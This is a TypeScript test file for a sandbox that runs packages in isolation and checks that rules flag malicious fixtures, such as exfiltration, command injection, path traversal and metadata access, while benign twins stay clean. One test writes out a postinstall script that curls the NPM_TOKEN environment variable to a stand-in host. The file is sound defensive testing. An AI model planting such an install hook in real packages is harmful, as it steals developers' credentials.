// Whole runs in the real sandbox: each fault is reported, and its benign twin is not.
import { describe, expect, test } from 'vitest';
import { canaryFinder, launch, planCanaries } from '../../src/sandbox/isolation/index.ts';
import { runPhases } from '../../src/sandbox/phases.ts';
import { describeRun, type SandboxInput } from '../../src/sandbox/plan.ts';
import type { Fact, RunFact } from '../../src/types.ts';
import { whyNoBox } from './isolation-harness.ts';
import { inputFor, QUICK } from './plain.ts';

const reason = await whyNoBox();
const title = reason === null ? 'a run in the box' : `a run in the box (skipped: ${reason})`;
const isolation = { launch, planCanaries, canaryFinder };
const timing = { ...QUICK, startIdleMs: 900, idleMs: 200, settleMs: 300, scriptMs: 5_000 };
let runs = 0;

function run(fixture: string, more: Partial<SandboxInput> = {}): Promise<Fact<RunFact>> {
  runs += 1;
  const options = { seed: 7, seedText: `test-${runs}`, timing, fuzzLimits: { totalMs: 6_000 } };
  return runPhases(isolation, inputFor(fixture, more), options);
}
async function rulesOf(fixture: string, more: Partial<SandboxInput> = {}): Promise<string[]> {
  const fact = await run(fixture, more);
  if (!fact.known) throw new Error(fact.reason);
  const found = fact.value.observations.filter(({ severity }) => severity !== 'info');
  return [...new Set(found.map(({ ruleId }) => ruleId))].sort();
}
const declares = (...expectedHosts: string[]): Partial<SandboxInput> => ({
  stated: { functions: [], expectedCapabilities: [], expectedHosts },
});

describe.skipIf(reason !== null).concurrent(title, () => {
  test.each<[string, string[], Partial<SandboxInput>]>([
    [
      'thief',
      ['egress-at-start', 'observed-exfiltration', 'planted-secret-read'],
      declares('api.greeter.example'),
    ],
    [
      'key-abroad',
      ['observed-exfiltration', 'unexpected-egress'],
      { ...declares('api.weather.example'), environmentNames: ['WEATHER_API_KEY'] },
    ],
    ['agent-config', ['writes-agent-config'], {}],
    ['shell', ['command-injection-proved'], {}],
    ['traversal', ['path-traversal-proved'], {}],
    ['fetcher', ['metadata-address-reached'], {}],
    ['leak-env', ['leaks-environment'], {}],
    ['hog', ['exhausts-resources'], {}],
    ['long-line', ['response-flood'], {}],
  ])(
    'of %s reports %j, and nothing of its twin',
    async (fixture, expected, more) => {
      expect(await rulesOf(fixture, more)).toEqual(expected);
      expect(await rulesOf(`${fixture}-twin`, more)).toEqual([]);
    },
    60_000,
  );

  test('runs install scripts, sees what they do, and starts what they leave', async () => {
    const script =
      'curl -s -d "$NPM_TOKEN" http://install.collect.example/ ; echo hello > made-by-install.txt';
    const scripts = [{ node: 'good', dir: 'node_modules/good', scripts: { postinstall: script } }];
    expect(await rulesOf('good', { installScripts: scripts })).toEqual([
      'egress-during-install',
      'observed-exfiltration',
    ]);
    const harmless = [
      {
        ...scripts[0],
        node: 'good',
        dir: 'node_modules/good',
        scripts: { postinstall: 'echo hello > made.txt' },
      },
    ];
    expect(await rulesOf('good', { installScripts: harmless })).toEqual([]);
  }, 60_000);

  test('that cannot start, or says nothing, is unknown with the reason', async () => {
    const dead = await run('dead');
    expect(dead).toMatchObject({
      known: false,
      reason: expect.stringContaining('Error: libfoo.so is missing\\u{1b}[2J'),
    });
    expect(await run('silent')).toMatchObject({
      known: false,
      reason: expect.stringContaining('did not open a conversation'),
    });
  }, 60_000);

  test('ends when it is interrupted', async () => {
    const controller = new AbortController();
    const running = run('silent', {
      signal: controller.signal,
      onProgress: () => setTimeout(() => controller.abort(), 300),
    });
    const started = performance.now();
    expect(await running).toMatchObject({ known: false });
    expect(performance.now() - started).toBeLessThan(5_000);
  }, 30_000);
});

test('says beforehand what will be run, and that it is isolated', () => {
  const scripts = [{ node: 'x', dir: 'node_modules/x', scripts: { install: 'node-gyp rebuild' } }];
  const text = describeRun(
    inputFor('good', { args: ['/home/me/files', '--fast'], installScripts: scripts }),
  );
  expect(text).toContain('good@1.0.0');
  expect(text).toContain('node /opt/server/node_modules/good/good.mjs /home/dev/project --fast');
  expect(text).toContain('1 install script');
  expect(text).toContain('isolated');
});
